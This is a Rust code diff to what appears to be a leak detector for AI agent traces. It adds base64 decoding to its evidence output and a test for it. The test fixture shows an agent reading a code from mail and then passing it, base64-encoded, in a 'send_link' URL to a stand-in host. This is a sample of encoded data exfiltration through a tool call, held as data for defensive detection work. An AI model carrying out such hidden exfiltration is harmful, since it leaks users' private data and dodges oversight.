@@ -243,13 +243,22 @@ fn shown(leak: &Leak, run: &Run) -> Evidence {
         escape_line(&leak.arg)
     )];
     lines.extend(marked(&leak.argument));
+    lines.extend(decoded(&leak.argument));
     lines.push(format!(
         "which the result of call {} `{}` had first:",
         leak.source,
         name(leak.source)
     ));
     lines.extend(marked(&leak.result));
+    lines.extend(decoded(&leak.result));
     Evidence::Text(truncate_lines(&lines))
+}
+
+/// What is behind an encoding.
+fn decoded(shown: &MarkedText) -> Option<String> {
+    let decoded = shown.decoded.as_ref()?;
+    let name = decoded.encoding.as_str();
+    Some(format!("  = {name} of `{}`", escape_line(&decoded.text)))
 }
 
 /// A text with a line of carets below what is marked.
@@ -408,6 +417,31 @@ mod tests {
         let user = Flow::new([entry().with_unless(FlowUnless::User)]);
         let report = told(&run, |told| trace_flow_with(&run.trace, &user, told));
         assert_eq!(report.leaks.len(), 1, "the user said the amount");
+    }
+
+    #[test]
+    fn what_is_encoded_is_shown_as_it_is_and_decoded() {
+        let run = run(
+            &json!([
+                { "name": "read_mail" },
+                { "name": "send_link", "args": { "url": "https://a.example/?d=NDgyMTMtQUI=" } },
+            ]),
+            &json!([{ "call_index": 0, "result": "The code is 48213-AB." }]),
+        );
+        let report = trace_flow(&run.trace, &Flow::new([entry()]));
+        let Evidence::Text(text) = shown(&report.leaks[0], &run) else {
+            panic!("no text");
+        };
+        let wanted = [
+            "call 1 `send_link` has in `url`:",
+            "  | https://a.example/?d=NDgyMTMtQUI=",
+            "  |                      ^^^^^^^^^^^",
+            "  = base64 of `48213-AB`",
+            "which the result of call 0 `read_mail` had first:",
+            "  | The code is 48213-AB.",
+            "  |             ^^^^^^^^",
+        ];
+        assert_eq!(text.lines().collect::<Vec<_>>(), wanted);
     }
 
     #[test]
